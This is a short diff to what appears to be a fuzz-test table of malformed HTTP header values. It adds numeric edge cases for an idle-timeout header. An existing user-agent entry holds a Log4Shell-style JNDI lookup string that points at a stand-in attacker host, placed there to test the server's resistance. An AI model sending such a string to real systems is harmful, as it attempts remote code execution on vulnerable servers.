@@ -91,6 +91,7 @@ const HEADERS: Record<string, readonly string[]> = {
   'user-agent': ['', '\u00ff\u00fe', 'x'.repeat(3_000), '${jndi:ldap://evil.example/a}'],
   'x-csrf-token': ['', 'x', 'x'.repeat(3_000)],
   'x-elevation-token': ['', 'x', 'x'.repeat(3_000)],
+  'x-idle-ms': ['', '-1', '1e9', '0x10', 'NaN', '9'.repeat(3_000)],
   'x-forwarded-for': [
     '',
     'unknown',
